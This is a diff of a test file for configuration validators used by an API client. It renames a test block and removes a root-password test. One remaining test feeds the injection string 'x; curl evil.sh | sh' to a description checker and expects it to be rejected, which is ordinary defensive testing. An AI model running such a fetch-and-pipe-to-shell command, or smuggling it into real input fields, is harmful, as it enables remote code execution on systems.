@@ -262,15 +262,10 @@ describe("emr-production-kerberos / emr-production-ha: production stacks use KER
   });
 });
 
-describe("text validators reused by the API client", () => {
+describe("text validators reused by the API client (client/validate.ts)", () => {
   test("descriptions refuse shell metacharacters", () => {
     expect(hygiene.checkDescription("Nightly ETL, finance")).toEqual([]);
     expect(hygiene.checkDescription("x; curl evil.sh | sh")[0]).toMatchObject({ path: "description", message: expect.stringContaining("metacharacters") });
-  });
-  test("root passwords are 8-30 letters and digits", () => {
-    expect(hygiene.checkRootPassword("Abc12345")).toEqual([]);
-    expect(hygiene.checkRootPassword("Abc$12345")).toHaveLength(1);
-    expect(hygiene.checkRootPassword("short1")).toHaveLength(1);
   });
 });
 
